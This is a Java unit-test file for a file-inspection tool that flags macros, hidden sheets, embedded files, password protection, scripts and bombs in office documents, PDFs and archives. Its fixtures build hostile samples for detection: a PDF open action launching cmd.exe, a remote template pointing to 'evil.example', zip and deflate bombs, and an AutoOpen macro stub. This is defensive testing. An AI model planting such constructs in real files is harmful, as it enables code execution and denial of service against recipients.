package org.gongkai.content.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.gongkai.content.html.SharedInput;
import org.gongkai.content.media.FileTypes;
import org.gongkai.content.media.Finding;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

class FileInspectionTest {
    private static final FileInspection inspection =
            new FileInspection(new InspectionSettings(Duration.ofSeconds(30), 2));
    private static final FileTypes types = new FileTypes();
    private static final String OOXML = "application/vnd.openxmlformats-officedocument.";
    private static final String DOCX = OOXML + "wordprocessingml.document";
    private static final String XLSX = OOXML + "spreadsheetml.sheet";

    @TempDir Path directory;

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "droste.zip                  | EMBEDDED_FILE droste.jpg, droste.zip",
                "gbk.zip                     | EMBEDDED_FILE 审计压缩包文件检索测试/集团邮件审计系统2021年自动巡检需求文档_V4.0.doc",
                "testAnnotations.pdf         | COMMENTS; AUTHORS Michael McCandless",
                "testComment.docx            | COMMENTS; AUTHORS Michael McCandless",
                "testEXCEL_macro.xlsm        | MACROS xl/vbaProject.bin",
                "testMP4Video.mp4            |",
                "testPDF_bookmarks.pdf       |",
                "testPDF_jsActionOnPage.pdf  | SCRIPT JavaScript",
                "testPDF_protected.pdf       | RESTRICTED; AUTHORS The Bank of England",
                "testPPT_EmbeddedPDF.pptx    | EMBEDDED_FILE oleObject1.bin, oleObject2.bin; AUTHORS Allison, Timothy B.",
                "testWORD_1img.doc           | AUTHORS Nevin Nollop, Derek Hulley",
                "testWORD_3imgs.docx         | AUTHORS Nevin Nollop, Derek Hulley",
                "testWORD_docSecurity.docx   | RESTRICTED; AUTHORS Tyler Thorsted",
                "testWORD_embedded_pdf.docx  | EMBEDDED_FILE oleObject2.bin, oleObject1.bin; AUTHORS IBMer, Michael McCandless",
                "testWORD_features.docx      | COMMENTS; TRACKED_CHANGES; HIDDEN_TEXT; AUTHORS Kyle Reese",
                "testWORD_macros.docm        | MACROS word/vbaProject.bin; AUTHORS Allison, Timothy B.",
                "testWORD_multi_authors.docx | AUTHORS Allison, Timothy B.;author2;author3, Allison, Timothy B.",
                "testWORD_no_format.doc      | MACROS; AUTHORS Jonas Wilhelmsson",
                "testWORD_numbered_list.docx | COMMENTS; AUTHORS Allison, Timothy B.",
                "testWORD_text_box.docx      | AUTHORS Windows User",
                "testZipEncrypted.zip        | PASSWORD encrypted.txt; EMBEDDED_FILE unencrypted.txt, encrypted.txt",
            })
    void namesWhatIsInsideRealFiles(String name, String findings) {
        Path file = SharedInput.find("documents/" + name);

        assertThat(said(inspection.inspect(file, types.of(file, name), name)))
                .isEqualTo(findings == null ? "" : findings);
    }

    private static String said(List<Finding> findings) {
        return findings.stream()
                .map(
                        finding ->
                                finding.kind()
                                        + (finding.detail().isEmpty()
                                                ? ""
                                                : " " + finding.detail()))
                .collect(Collectors.joining("; "));
    }

    @Test
    void findsHiddenSheetsLocksAndRemoteTemplates() throws IOException {
        Path sheets =
                zip(
                        Map.of(
                                "xl/workbook.xml",
                                "<workbook><sheets><sheet name=\"公开\" r:id=\"1\"/><sheet name=\"底稿&amp;\" state=\"veryHidden\"/></sheets></workbook>",
                                "xl/comments1.xml",
                                "<comments><commentList><comment ref=\"A1\"/></commentList></comments>"));
        Path template =
                zip(
                        Map.of(
                                "word/document.xml",
                                "<w:document><w:body/></w:document>",
                                "word/_rels/settings.xml.rels",
                                "<Relationships><Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));

        assertThat(said(inspection.inspect(sheets, XLSX, "a.xlsx")))
                .isEqualTo("HIDDEN_SHEET 底稿&; COMMENTS");
        assertThat(said(inspection.inspect(template, DOCX, "a.docx")))
                .isEqualTo("EXTERNAL_CONTENT http://evil.example/t.dotm");
    }

    @Test
    void findsMacrosOfOpenDocument() throws IOException {
        Path text =
                zip(
                        Map.of(
                                "Basic/Standard/Module1.xml",
                                "x",
                                "meta.xml",
                                "<meta:initial-creator>张三</meta:initial-creator>",
                                "content.xml",
                                "<text:tracked-changes/><office:annotation>x</office:annotation>"));

        assertThat(
                        said(
                                inspection.inspect(
                                        text, "application/vnd.oasis.opendocument.text", "a.odt")))
                .isEqualTo(
                        "MACROS Basic/Standard/Module1.xml; COMMENTS; TRACKED_CHANGES; AUTHORS 张三");
    }

    @Test
    void findsWhatAPdfStartsRunsAndCarriesThoughNothingLeadsToIt() throws IOException {
        Path file = directory.resolve("a.pdf");
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage());
            PDActionLaunch launch = new PDActionLaunch();
            launch.setF("cmd.exe");
            pdf.getDocumentCatalog().setOpenAction(launch);
            PDComplexFileSpecification attached = new PDComplexFileSpecification();
            attached.setFile("内部.xlsx");
            attached.setEmbeddedFile(new PDEmbeddedFile(pdf));
            PDEmbeddedFilesNameTreeNode names = new PDEmbeddedFilesNameTreeNode();
            names.setNames(Map.of("x", attached));
            PDDocumentNameDictionary dictionary =
                    new PDDocumentNameDictionary(pdf.getDocumentCatalog());
            dictionary.setEmbeddedFiles(names);
            pdf.getDocumentCatalog().setNames(dictionary);
            pdf.save(file.toFile());
        }

        assertThat(said(inspection.inspect(file, "application/pdf", "a.pdf")))
                .isEqualTo("LAUNCH_ACTION Launch cmd.exe; EMBEDDED_FILE 内部.xlsx");
    }

    @Test
    void aPdfThatOpensOnlyWithAPasswordSaysSo() throws IOException {
        Path file = directory.resolve("a.pdf");
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage());
            pdf.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
            pdf.save(file.toFile());
        }

        assertThat(said(inspection.inspect(file, "application/pdf", "a.pdf")))
                .isEqualTo("PASSWORD");
    }

    @Test
    void aBombIsNamedAndNotUnpacked() throws IOException {
        Path bomb = directory.resolve("bomb");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(bomb))) {
            byte[] zeros = new byte[1 << 20];
            out.putNextEntry(new ZipEntry("word/document.xml"));
            for (int i = 0; i < 300; i++) {
                out.write(zeros);
            }
        }
        long begun = System.nanoTime();

        assertThat(said(inspection.inspect(bomb, DOCX, "a.docx"))).startsWith("BOMB");

        assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void aPartThatCannotBeReadHidesNoMacroBehindIt() throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("word/comments.xml", " ".repeat((64 << 20) + 1));
        parts.put("word/vbaProject.bin", "Sub AutoOpen()");

        assertThat(said(inspection.inspect(zip(parts), DOCX, "a.docx")))
                .isEqualTo("MACROS word/vbaProject.bin; UNREADABLE");
    }

    @Test
    void tagsWithoutEndAreReadOnce() throws IOException {
        int many = 500_000;

        assertThat(
                        said(
                                inspection.inspect(
                                        zip(
                                                Map.of(
                                                        "word/_rels/document.xml.rels",
                                                        "<Relationship ".repeat(many),
                                                        "word/settings.xml",
                                                        "<w:documentProtection ".repeat(many),
                                                        "xl/workbook.xml",
                                                        "<sheet ".repeat(many))),
                                        DOCX,
                                        "a.docx")))
                .isEmpty();
        assertThat(
                        said(
                                inspection.inspect(
                                        zip(
                                                Map.of(
                                                        "content.xml",
                                                        "<draw:image <style:table-properties "
                                                                .repeat(many))),
                                        "application/vnd.oasis.opendocument.text",
                                        "a.odt")))
                .isEmpty();
    }

    @Test
    void aPdfThatUnpacksWithoutEndIsNamedBeforeItIsParsed() throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(packed)) {
            byte[] blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 200; i++) {
                out.write(blanks);
            }
        }
        Path file = directory.resolve("bomb.pdf");
        try (OutputStream out = Files.newOutputStream(file)) {
            String head =
                    "%%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>> endobj\n4 0 obj <</Length %d/Filter/FlateDecode>> stream\r\n"
                            .formatted(packed.size());
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            packed.writeTo(out);
            out.write(
                    "\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF"
                            .getBytes(StandardCharsets.US_ASCII));
        }

        assertThat(said(inspection.inspect(file, "application/pdf", "a.pdf"))).isEqualTo("BOMB");
    }

    @Test
    void damagedFilesAreAFinding() throws IOException {
        Path file = Files.writeString(directory.resolve("a"), "%PDF-1.7 and nothing else");

        assertThat(said(inspection.inspect(file, DOCX, "a.docx"))).isEqualTo("UNREADABLE");
        assertThat(said(inspection.inspect(file, "application/pdf", "a.pdf")))
                .isEqualTo("UNREADABLE");
        assertThat(said(inspection.inspect(file, "application/msword", "a.doc")))
                .isEqualTo("UNREADABLE");
    }

    private Path zip(Map<String, String> entries) throws IOException {
        Path file = Files.createTempFile(directory, "zip", "");
        try (OutputStream bytes = Files.newOutputStream(file);
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> entry : entries.entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return file;
    }
}
